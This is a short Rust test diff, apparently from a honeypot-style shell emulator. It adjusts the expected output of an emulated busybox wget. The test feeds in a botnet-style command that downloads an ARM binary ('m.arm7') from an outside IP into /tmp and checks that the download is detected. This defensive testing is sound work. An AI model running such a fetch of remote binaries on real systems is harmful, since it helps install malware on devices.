@@ -105,6 +105,6 @@ mod tests {
         assert_eq!(run(&mut sh, "busybox echo -e 'a\\x41'").0, "aA\n");
         let o = sh.execute("cd /tmp; busybox wget http://203.0.113.3/m.arm7 -O m");
         assert!(matches!(&o.effects[0], Effect::Download { tool, .. } if tool == "busybox wget"));
-        assert!(String::from_utf8_lossy(&o.output).starts_with("Connecting to 203.0.113.3:80 (203.0.113.3:80)\nsaving to 'm'\n"));
+        assert!(String::from_utf8_lossy(&o.output).starts_with("Connecting to 203.0.113.3 (203.0.113.3:80)\nsaving to 'm'\n"));
     }
 }
